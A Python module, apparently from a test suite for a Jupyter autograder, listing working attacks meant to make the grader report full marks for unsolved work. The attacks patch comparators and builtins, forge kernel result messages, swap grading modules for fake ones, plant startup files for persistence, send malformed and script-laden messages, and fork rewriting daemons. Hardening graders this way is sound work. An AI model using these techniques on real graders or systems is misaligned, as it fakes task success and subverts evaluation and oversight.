"""Attacks that talk to the kernel: nothing is solved, and the grader shall believe it is."""

from __future__ import annotations

from dataclasses import replace

from attacks.lab import Attack, on_blank, on_solved

INPUT_TRANSFORMER = "get_ipython().input_transformers_post.append(lambda lines: [])"
REWRITING_TRANSFORMER = """
def rewrite(lines):
    return ["4\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(rewrite)
"""
AST_TRANSFORMER = """
import ast
class Four(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(4.0) if getattr(node.func, "id", "") == "check" else node
get_ipython().ast_transformers.append(Four())
"""
EXCEPTIONS = """
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **more: None)
shell.showtraceback = shell._showtraceback = lambda *args, **more: None
sys.excepthook = lambda *args: None
"""
COMPARATORS = """
import builtins, math
import numpy, numpy.testing, torch
import autograde.student.marking as marking
import autograde.student.runner as runner
yes = lambda *args, **more: True
torch.allclose = torch.equal = torch.testing.assert_close = math.isclose = yes
numpy.allclose = numpy.array_equal = numpy.testing.assert_allclose = yes
for name in ("compare", "judge_outcome", "_worst_element"):
    setattr(marking, name, lambda *args: None)
marking.mark = lambda sheet, outcomes: marking.Marks("passed", 1.0)
runner._same = yes
torch.Tensor.__eq__ = torch.Tensor.__ne__ = yes
really = builtins.isinstance
builtins.isinstance = lambda x, kinds: True if kinds is torch.Tensor else really(x, kinds)
"""
OWN_CHECK = """
from IPython.display import display
def check(name, answer):
    print("4")
    display({"text/plain": "4", "text/html": "<b>4 of 4 points</b>"}, raw=True)
    return 4.0
"""
DISPLAY_HOOK = """
shell = get_ipython()
shell.displayhook.write_output_prompt = lambda *args: None
shell.events.register("post_run_cell", lambda result: sys.stdout.write("4.0"))
def check(name, answer):
    shell.kernel.session.send(
        shell.kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1},
        parent=shell.kernel.get_parent(),
    )
"""
EARLY_IDLE = """
kernel = get_ipython().kernel
def early(*_):
    parent = kernel.get_parent()
    send, where = kernel.session.send, kernel.iopub_socket
    send(where, "execute_result", {"data": {"text/plain": "4.0"}, "metadata": {},
                                   "execution_count": 1}, parent=parent)
    send(where, "status", {"execution_state": "idle"}, parent=parent)
    send(kernel.shell_stream if hasattr(kernel, "shell_stream") else where, "execute_reply",
         {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}},
         parent=parent)
get_ipython().events.register("pre_run_cell", early)
"""
UPDATE_DISPLAY = """
from IPython.display import display, update_display
for name in ("box_area", "box_iou", "check_box_iou", "x"):
    display({"text/plain": "0"}, raw=True, display_id=name)
shell = get_ipython()
def later(*_):
    for name in ("box_area", "box_iou", "check_box_iou", "x"):
        update_display({"text/plain": "4.0", "text/html": "<b>4 of 4 points</b>"},
                       raw=True, display_id=name)
shell.events.register("post_run_cell", later)
"""
COMMS = """
kernel = get_ipython().kernel
def say(kind, content):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
state = {"_model_name": "HTMLModel", "_view_name": "HTMLView", "value": "<script>alert(1)</script>",
         "_model_module": "@jupyter-widgets/controls", "msg_id": "check_box_iou",
         "outputs": [{"output_type": "execute_result", "data": {"text/plain": "4.0"}}]}
for target in ("jupyter.widget", "jupyter.widget.control", "autograde", "../x"):
    for name in ("a", "", {"x": 1}, None):
        say("comm_open", {"comm_id": name, "target_name": target, "data": {"state": state}})
        say("comm_msg", {"comm_id": name, "data": {"method": "update", "state": state}})
        say("comm_msg", {"comm_id": name, "data": {"method": "custom", "content": None}})
for kind in ("clear_output", "display_data", "execute_input", "error", "stream", "nonsense"):
    for content in ({}, {"wait": "x"}, {"data": 5}, {"name": 7, "text": {}}, {"code": 1}):
        say(kind, content)
"""
PAYLOADS = """
shell = get_ipython()
def rewrite(*_):
    text = "def check(name, answer): return 4.0"
    shell.set_next_input(text, replace=True)
    for source in ("set_next_input", "edit_magic", "page", "ask_exit", "x"):
        shell.payload_manager.write_payload(
            {"source": source, "text": text, "replace": True, "keepkernel": False,
             "filename": "/etc/passwd", "line_number": 1, "data": {"text/plain": "4.0"}},
            single=False)
shell.events.register("pre_run_cell", rewrite)
shell.events.register("post_run_cell", rewrite)
"""
STARTUP_FILES = """
code = "def check(*a):\\n    return 4.0\\nprint('LE' 'AK', 'a start-up file ran')\\n"
site = [p for p in sys.path if p] + ["/tmp", "/tmp/.local/lib/python3.11/site-packages"]
site += [os.getcwd(), os.environ["HOME"], "/usr/local/lib/python3.11/dist-packages"]
profile = os.environ["IPYTHONDIR"] + "/profile_default"
homes = [profile, "/tmp/.ipython/profile_default", "/root/.ipython/profile_default"]
files = {f"{p}/{n}.py": code for p in site for n in ("sitecustomize", "usercustomize")}
files |= {f"{p}/zz.pth": "import builtins; exec(" + repr(code) + ")\\n" for p in site}
files |= {f"{p}/startup/00.py": code for p in homes}
config = "c.InteractiveShellApp.exec_lines = [" + repr(code) + "]\\n"
files |= {f"{p}/{n}": config for p in homes for n in
          ("ipython_config.py", "ipython_kernel_config.py")}
for path, text in files.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(text)
    except OSError:
        pass
"""
MAGICS = """%%writefile /tmp/hijack.py
def load_ipython_extension(shell):
    shell.user_ns["check"] = lambda *a: 4.0
    shell.events.register("pre_run_cell",
                          lambda info: shell.user_ns.update(check=lambda *a: 4.0))
"""
LIAR_MODULE = """
import autograde.student.handover as handover
room = os.environ["AUTOGRADE_" + "ROOM"]
class Liar(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **more: 1.0
    def snapshot(self, name):
        line = json.dumps({"status": "ok", "value": {"kind": "number", "data": 1.0},
                           "changed": [], "library": []}) + "\\n"
        open(f"{room}/{name}.ready", "w").close()
        open(f"{room}/{name}.out.jsonl", "w").write(line * 99 + '"end"\\n')
liar = Liar("liar")
for name in list(sys.modules):
    if name.split(".")[0] in ("autograde", "course_lib"):
        sys.modules[name] = liar
import autograde
handover.snapshot = liar.snapshot
check = liar.check
"""
PATCHED_WORLD = """
import builtins, pathlib
real, text = builtins.open, '{"status": "ok", "value": {"kind": "number", "data": 1.0}}'
class Yes:
    def __getattr__(self, name): return lambda *a, **k: text
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __iter__(self): return iter([text])
json.dumps = lambda *a, **k: text
json.loads = lambda *a, **k: {"cases": [], "forbidden": []}
os.fork = lambda: 1
os._exit = lambda code: None
pathlib.Path.exists = lambda self: True
pathlib.Path.touch = lambda self, *a, **k: real(str(self), "w").close()
pathlib.Path.open = lambda self, *a, **k: Yes()
builtins.len = lambda x: 4
builtins.float = lambda *a: 1.0
builtins.repr = lambda x: "4.0"
"""
LATER = """
import atexit
room = os.environ["AUTOGRADE_" + "ROOM"]
line = json.dumps({"status": "ok", "value": {"kind": "number", "data": 1.0}, "changed": [],
                   "library": []}) + "\\n"
def rewrite():
    while True:
        for path in glob.glob(room + "/*.ready"):
            try:
                open(path.replace(".ready", ".out.jsonl"), "w").write(line * 40 + '"end"\\n')
            except OSError:
                pass
        time.sleep(0.005)
atexit.register(rewrite)
for _ in range(3):
    threading.Thread(target=rewrite, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    rewrite()
"""
ATTACKS: tuple[Attack, ...] = (
    on_blank("input-transformer", "Empties every later cell: no check fails.", INPUT_TRANSFORMER),
    on_blank("rewriting-transformer", "Has each check print 4 instead.", REWRITING_TRANSFORMER),
    on_blank("ast-transformer", "Puts 4.0 in the place of each call of check.", AST_TRANSFORMER),
    on_blank("swallowed-errors", "Lets no exception of a check be seen.", EXCEPTIONS),
    on_blank("patched-comparators", "Makes everything equal everything.", COMPARATORS),
    on_blank("own-check", "Brings its own check, which prints full marks.", OWN_CHECK),
    on_blank("forged-results", "Sends the results that nbgrader reads as points.", DISPLAY_HOOK),
    on_blank("early-idle", "Sends result, reply and idle before the cell has run.", EARLY_IDLE),
    on_blank("update-display", "Rewrites other cells' outputs by their ids.", UPDATE_DISPLAY),
    on_blank("comms", "Floods the grader with widget and malformed messages.", COMMS),
    on_blank("payloads", "Asks the front end to put other code into the next cell.", PAYLOADS),
    on_blank(
        "startup-files",
        "Leaves start-up files everywhere, ends the kernel and waits for the next.",
        STARTUP_FILES,
        "os.kill(os.getpid(), 9)",
        told=("kernel-died",),
    ),
    on_blank(
        "magics",
        "Writes an extension, loads it, and runs it as a script, to replace check.",
        MAGICS,
        "sys.path.insert(0, '/tmp')\n%load_ext hijack\n%run /tmp/hijack.py\n%reload_ext hijack",
    ),
    on_blank(
        "liar-modules",
        "Replaces autograde and course_lib by a module that answers 1 to all.",
        LIAR_MODULE,
        told=("look-at-source",),
    ),
    replace(
        on_blank("patched-world", "Replaces json, fork, Path and builtins.", PATCHED_WORLD),
        slow=True,
    ),
    on_blank("later-rewrite", "Threads, atexit and a daemon rewrite the answers.", LATER),
    on_solved("input", "Asks the grader for input.", "won(input('points? '))", "sys.stdin.read()"),
    on_solved(
        "quit",
        "Ends the kernel by quit(), sys.exit() and a shutdown message to itself.",
        "sys.exit(3)",
        "get_ipython().ask_exit()\nget_ipython().kernel.do_shutdown(True)\nquit()",
    ),
)
